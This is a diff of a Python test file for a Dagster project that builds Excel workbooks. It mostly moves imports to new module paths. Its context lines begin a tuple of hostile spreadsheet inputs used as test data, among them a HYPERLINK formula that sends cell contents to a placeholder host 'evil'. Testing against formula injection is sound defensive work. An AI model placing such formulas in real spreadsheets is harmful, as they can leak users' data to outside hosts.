@@ -11,15 +11,15 @@ import openpyxl
 import pytest
 import xlsxwriter
 
-from dagster_project import workbook
-from dagster_project.builds import current, sha256
-from dagster_project.database import attach, connect, text
+from dagster_project.published import workbook
+from dagster_project.published.builds import current, sha256
+from dagster_project.published.workbook.cells import DIGITS, FORMULA, LONGEST, Cells
+from dagster_project.published.workbook.contents import KNOWN, LAWS, SHEETS, Sheet
+from dagster_project.published.workbook.readme import ABOUT
 from dagster_project.settings import ROOT
-from dagster_project.workbook.cells import DIGITS, FORMULA, LONGEST, Cells
-from dagster_project.workbook.contents import KNOWN, LAWS, SHEETS, Sheet
-from dagster_project.workbook.readme import ABOUT
+from dagster_project.storage.database import attach, connect, text
 
-MARTS = {path.stem for path in (ROOT / "dbt/models/marts").glob("*.sql")}
+MARTS = {path.stem for path in (ROOT / "dbt/models/marts").rglob("*.sql")}
 HOSTILE = (
     '=HYPERLINK("http://evil/?"&A1)',
     "+1+1",
